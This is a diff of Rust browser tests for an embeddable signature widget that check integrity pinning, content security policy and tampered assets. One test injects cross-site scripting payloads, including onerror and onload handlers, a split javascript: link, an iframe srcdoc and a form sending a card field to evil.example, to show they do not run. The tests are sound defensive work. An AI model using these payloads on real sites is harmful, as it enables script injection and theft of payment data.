@@ -8,12 +8,12 @@ use serde_json::{Value, json};
 use sha2::{Digest as _, Sha384};
 
 use crate::{
-    fixture::{SHARE, SIGNATURE, SIGNUP, Stage, confirms_at_the_servers, enter_code, sign},
+    fixture::{Fixture, SHARE, SIGNATURE, SIGNUP, confirms_at_the_servers, enter_code, sign},
     support::{
         browsers::{page::Page, visit},
         campaign::{DECLARATION, LIST},
         database::keep_loader,
-        network::faulty_proxy::Trouble,
+        network::faulty_proxy::Fault,
         process, wait,
     },
 };
@@ -26,22 +26,22 @@ fn manifest() -> Value {
 }
 
 /// The tag as the organiser gives it out, around the fallback link.
-async fn pinned(stage: &Stage, attributes: &str, link: &str) -> String {
-    let (path, integrity) = stage.pinned_loader().await;
+async fn pinned(fixture: &Fixture, attributes: &str, link: &str) -> String {
+    let (path, integrity) = fixture.pinned_loader().await;
     format!(
         "<div {attributes}><a href=\"{0}{link}\">On the campaign's page</a></div>\
          <script async src=\"{0}{path}\" integrity=\"{integrity}\" crossorigin=\"anonymous\"></script>",
-        stage.gate.url
+        fixture.proxy.url
     )
 }
 
-async fn pinned_signature(stage: &Stage) -> String {
+async fn pinned_signature(fixture: &Fixture) -> String {
     let attributes = format!("data-widget=\"signature\" data-declaration=\"{DECLARATION}\"");
-    pinned(stage, &attributes, &format!("/d/{DECLARATION}")).await
+    pinned(fixture, &attributes, &format!("/d/{DECLARATION}")).await
 }
 
 /// Waits until only the link is visible, and returns the console.
-async fn only_the_link_stands(page: &Page) {
+async fn only_the_link_is_shown(page: &Page) {
     let script = "
         const place = document.querySelector('main div');
         const root = document.querySelector(arguments[0])?.shadowRoot;
@@ -52,7 +52,7 @@ async fn only_the_link_stands(page: &Page) {
         .await;
 }
 
-async fn told(page: &Page, words: &str) {
+async fn reported(page: &Page, words: &str) {
     wait::until(&format!("{words:?} in the console"), async || {
         let console = page.console().await;
         let mut lines = console.iter();
@@ -86,17 +86,19 @@ async fn a_changed_byte_in_any_asset_stops_the_widget() {
             "text-en.json is not what",
         ),
     ] {
-        let stage = Stage::set().await;
-        stage.gate.trouble(file, Trouble::Change(from, to));
-        let address = stage.site.page("/changed", &pinned_signature(&stage).await);
+        let fixture = Fixture::start().await;
+        fixture.proxy.add_fault(file, Fault::Change(from, to));
+        let address = fixture
+            .site
+            .page("/changed", &pinned_signature(&fixture).await);
 
         visit(&format!("changed_{name}"), async move |page| {
-            page.expect_complaint("undersigned:");
-            page.expect_complaint("integrity");
-            page.expect_complaint(&stage.gate.url);
+            page.expect_error("undersigned:");
+            page.expect_error("integrity");
+            page.expect_error(&fixture.proxy.url);
             page.goto(&address).await;
-            told(&page, words).await;
-            only_the_link_stands(&page).await;
+            reported(&page, words).await;
+            only_the_link_is_shown(&page).await;
         })
         .await;
     }
@@ -105,10 +107,12 @@ async fn a_changed_byte_in_any_asset_stops_the_widget() {
 /// The style sheet of a fragment is not used either.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_pinned_loader_ignores_styles_in_the_fragment() {
-    let stage = Stage::set().await;
-    let other = Trouble::Change("</script>", "*{outline:9px solid red!important}</script>");
-    stage.gate.trouble("/embed/v1/", other);
-    let address = stage.site.page("/styled", &pinned_signature(&stage).await);
+    let fixture = Fixture::start().await;
+    let other = Fault::Change("</script>", "*{outline:9px solid red!important}</script>");
+    fixture.proxy.add_fault("/embed/v1/", other);
+    let address = fixture
+        .site
+        .page("/styled", &pinned_signature(&fixture).await);
 
     visit("pinned_style", async move |page| {
         page.goto(&address).await;
@@ -125,15 +129,15 @@ async fn a_pinned_loader_ignores_styles_in_the_fragment() {
 /// version's, and everything else is the current server's.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_tag_pinned_before_an_upgrade_still_signs_and_loads_no_newer_code() {
-    let stage = Stage::set().await;
+    let fixture = Fixture::start().await;
     let today = fs::read_to_string(process::source("dist/pinned.js")).expect("it is built");
     let manifest = manifest();
     let hash = manifest["assets"]["widgets_bg.wasm"].as_str().unwrap();
     let earlier = today.replace(&hash[..6], "0ld0ld");
     assert_ne!(earlier, today, "it is bound to another bundle");
-    let hash = keep_loader(&stage.app.database, &earlier);
-    let server = &stage.gate.url;
-    let address = stage.site.page(
+    let hash = keep_loader(&fixture.app.database, &earlier);
+    let server = &fixture.proxy.url;
+    let address = fixture.site.page(
         "/earlier",
         &format!(
             "<div data-widget=\"signature\" data-declaration=\"{DECLARATION}\"><a href=\"{server}/d/{DECLARATION}\">Sign</a></div>\
@@ -144,13 +148,13 @@ async fn a_tag_pinned_before_an_upgrade_still_signs_and_loads_no_newer_code() {
     );
 
     visit("pinned_earlier", async move |page| {
-        let ada = stage.app.person("Ada Marlowe");
+        let ada = fixture.app.person("Ada Marlowe");
         page.goto(&address).await;
         let widget = page.widget(SIGNATURE);
         let form = widget.find("form[data-form=sign]").await;
         assert_eq!(form.css_value("display").await.unwrap(), "grid", "styled");
-        told(&page, "another version").await;
-        let asked = stage.gate.asked_for("/assets/");
+        reported(&page, "another version").await;
+        let asked = fixture.proxy.requests_for("/assets/");
         assert_eq!(asked.len(), 1, "the loader alone: {asked:?}");
         sign(&widget, &ada).await;
         page.until(
@@ -159,26 +163,28 @@ async fn a_tag_pinned_before_an_upgrade_still_signs_and_loads_no_newer_code() {
             vec![],
         )
         .await;
-        confirms_at_the_servers(&page, &stage, &ada).await;
-        assert_eq!(stage.app.count().await, 1);
+        confirms_at_the_servers(&page, &fixture, &ada).await;
+        assert_eq!(fixture.app.count().await, 1);
     })
     .await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn subresource_integrity_blocks_a_changed_loader() {
-    let stage = Stage::set().await;
-    stage
-        .gate
-        .trouble(PINNED, Trouble::Change("undersigned", "undersignee"));
-    let address = stage.site.page("/changed", &pinned_signature(&stage).await);
+    let fixture = Fixture::start().await;
+    fixture
+        .proxy
+        .add_fault(PINNED, Fault::Change("undersigned", "undersignee"));
+    let address = fixture
+        .site
+        .page("/changed", &pinned_signature(&fixture).await);
 
     visit("changed_loader", async move |page| {
-        page.expect_complaint("integrity");
-        page.expect_complaint(PINNED);
+        page.expect_error("integrity");
+        page.expect_error(PINNED);
         page.goto(&address).await;
         // The page has loaded, so the browser has decided; not every browser lets scripts read why.
-        assert_eq!(stage.gate.asked_for(PINNED).len(), 1);
+        assert_eq!(fixture.proxy.requests_for(PINNED).len(), 1);
         let untouched = "return document.querySelector('main a').checkVisibility()
             && !document.querySelector(arguments[0])";
         page.until("the link alone", untouched, vec![json!(SIGNATURE)])
@@ -189,15 +195,17 @@ async fn subresource_integrity_blocks_a_changed_loader() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn scripts_in_a_hostile_servers_fragment_do_not_run() {
-    let stage = Stage::set().await;
+    let fixture = Fixture::start().await;
     let hostile = "<img src=x onerror=\"window.owned = 1\"><script>window.owned = 2</script>\
         <a id=bad href=\" java\nscript:window.owned = 3\">x</a><svg onload=\"window.owned = 4\"><use href=\"data:,\"/></svg>\
         <iframe srcdoc=\"<script>parent.owned = 5</script>\"></iframe><input onfocus=\"window.owned = 6\" autofocus>\
         <form action=\"https://evil.example/\"><input name=card></form></form>";
-    stage
-        .gate
-        .trouble("/embed/v1/", Trouble::Change("</form>", hostile));
-    let address = stage.site.page("/hostile", &pinned_signature(&stage).await);
+    fixture
+        .proxy
+        .add_fault("/embed/v1/", Fault::Change("</form>", hostile));
+    let address = fixture
+        .site
+        .page("/hostile", &pinned_signature(&fixture).await);
 
     visit("hostile_fragment", async move |page| {
         page.goto(&address).await;
@@ -231,29 +239,30 @@ async fn scripts_in_a_hostile_servers_fragment_do_not_run() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_pinned_loader_never_falls_back_to_a_frame() {
-    let stage = Stage::set().await;
+    let fixture = Fixture::start().await;
     let policy = format!(
         "default-src 'none'; script-src {0}; connect-src 'self'; frame-src {0}",
-        stage.gate.url
+        fixture.proxy.url
     );
-    let address = stage
-        .site
-        .page_with_policy("/policy", &policy, &pinned_signature(&stage).await);
+    let address =
+        fixture
+            .site
+            .page_with_policy("/policy", &policy, &pinned_signature(&fixture).await);
 
     visit("pinned_policy", async move |page| {
-        page.expect_complaint("Content Security Policy");
-        page.expect_complaint("favicon");
-        page.expect_complaint(&stage.gate.url);
+        page.expect_error("Content Security Policy");
+        page.expect_error("favicon");
+        page.expect_error(&fixture.proxy.url);
         page.goto(&address).await;
-        only_the_link_stands(&page).await;
-        assert!(stage.gate.asked_for("/frame/v1/").is_empty());
-        assert!(stage.gate.asked_for("stepdown").is_empty());
+        only_the_link_is_shown(&page).await;
+        assert!(fixture.proxy.requests_for("/frame/v1/").is_empty());
+        assert!(fixture.proxy.requests_for("stepdown").is_empty());
     })
     .await;
 }
 
 /// The host's own copy of everything that browsers load, and a page with the signature box.
-fn copied(stage: &Stage) -> String {
+fn copied(fixture: &Fixture) -> String {
     for (name, kind) in [
         ("local.js", "text/javascript"),
         ("widgets.js", "text/javascript"),
@@ -262,10 +271,10 @@ fn copied(stage: &Stage) -> String {
         ("text-en.json", "application/json"),
     ] {
         let content = fs::read(process::source(&format!("dist/{name}"))).expect("it is built");
-        stage.site.file(&format!("/copies/{name}"), kind, content);
+        fixture.site.file(&format!("/copies/{name}"), kind, content);
     }
-    let server = &stage.gate.url;
-    stage.site.page(
+    let server = &fixture.proxy.url;
+    fixture.site.page(
         "/local",
         &format!(
             "<div data-widget=\"signature\" data-declaration=\"{DECLARATION}\">\
@@ -277,20 +286,20 @@ fn copied(stage: &Stage) -> String {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_self_hosted_copy_loads_no_code_from_the_server() {
-    let stage = Stage::set().await;
-    let address = copied(&stage);
+    let fixture = Fixture::start().await;
+    let address = copied(&fixture);
 
     visit("local_copy", async move |page| {
-        let ada = stage.app.person("Ada Marlowe");
+        let ada = fixture.app.person("Ada Marlowe");
         page.goto(&address).await;
         let widget = page.widget(SIGNATURE);
         widget.is_hydrated().await;
         sign(&widget, &ada).await;
-        enter_code(&widget, &stage.app.letter_to(&ada).await.code()).await;
+        enter_code(&widget, &fixture.app.email_to(&ada).await.code()).await;
         widget.find("[part~=thanks]").await;
-        assert_eq!(stage.app.count().await, 1);
-        assert!(stage.gate.asked_for("/assets/").is_empty());
-        assert!(stage.gate.asked_for(".js").is_empty());
+        assert_eq!(fixture.app.count().await, 1);
+        assert!(fixture.proxy.requests_for("/assets/").is_empty());
+        assert!(fixture.proxy.requests_for(".js").is_empty());
     })
     .await;
 }
@@ -306,23 +315,23 @@ async fn a_self_hosted_copy_of_another_version_submits_the_form_natively() {
         ),
         ("byte", "", "", ""),
     ] {
-        let stage = Stage::set().await;
-        let address = copied(&stage);
+        let fixture = Fixture::start().await;
+        let address = copied(&fixture);
         if file.is_empty() {
             let mut glue = fs::read(process::source("dist/widgets.js")).expect("it is built");
             glue.extend(b"\nwindow.owned = 1");
-            stage
+            fixture
                 .site
                 .file("/copies/widgets.js", "text/javascript", glue);
         } else {
-            stage.gate.trouble(file, Trouble::Change(from, to));
+            fixture.proxy.add_fault(file, Fault::Change(from, to));
         }
 
         visit(&format!("local_{name}"), async move |page| {
-            page.expect_complaint("integrity");
-            page.expect_complaint("undersigned:");
-            page.expect_complaint("widgets.js");
-            let ada = stage.app.person("Ada Marlowe");
+            page.expect_error("integrity");
+            page.expect_error("undersigned:");
+            page.expect_error("widgets.js");
+            let ada = fixture.app.person("Ada Marlowe");
             page.goto(&address).await;
             sign(&page.widget(SIGNATURE), &ada).await;
             page.until(
@@ -331,15 +340,15 @@ async fn a_self_hosted_copy_of_another_version_submits_the_form_natively() {
                 vec![],
             )
             .await;
-            confirms_at_the_servers(&page, &stage, &ada).await;
-            assert_eq!(stage.app.count().await, 1);
+            confirms_at_the_servers(&page, &fixture, &ada).await;
+            assert_eq!(fixture.app.count().await, 1);
         })
         .await;
     }
 }
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_pinned_loader_renders_and_signs_like_the_plain_one() {
-    let stage = Stage::set().await;
+    let fixture = Fixture::start().await;
     let widgets = [
         (
             SIGNATURE,
@@ -356,17 +365,19 @@ async fn the_pinned_loader_renders_and_signs_like_the_plain_one() {
     ];
     let plain: String = widgets
         .iter()
-        .map(|(_, attributes)| stage.tag(attributes))
+        .map(|(_, attributes)| fixture.tag(attributes))
         .collect();
     let mut strict = String::new();
     for (_, attributes) in &widgets {
-        strict += &pinned(&stage, attributes, "").await;
+        strict += &pinned(&fixture, attributes, "").await;
     }
     let (plain, strict) = (
-        stage.site.page("/plain", &plain),
-        stage.site.page("/strict", &strict),
+        fixture.site.page("/plain", &plain),
+        fixture.site.page("/strict", &strict),
     );
-    let signature = stage.site.page("/pinned", &pinned_signature(&stage).await);
+    let signature = fixture
+        .site
+        .page("/pinned", &pinned_signature(&fixture).await);
 
     visit("pinned_well", async move |page| {
         let drawn = "return root.innerHTML.replaceAll('strict', 'plain')";
@@ -395,16 +406,16 @@ async fn the_pinned_loader_renders_and_signs_like_the_plain_one() {
             );
         }
 
-        let ada = stage.app.person("Ada Marlowe");
+        let ada = fixture.app.person("Ada Marlowe");
         page.goto(&signature).await;
         let widget = page.widget(SIGNATURE);
         widget.is_hydrated().await;
         sign(&widget, &ada).await;
         let code = widget.find("input[name=code]").await;
         assert_ne!(code.css_value("border-top-width").await.unwrap(), "2px");
-        enter_code(&widget, &stage.app.letter_to(&ada).await.code()).await;
+        enter_code(&widget, &fixture.app.email_to(&ada).await.code()).await;
         widget.find("[part~=thanks]").await;
-        assert_eq!(stage.app.count().await, 1);
+        assert_eq!(fixture.app.count().await, 1);
     })
     .await;
 }
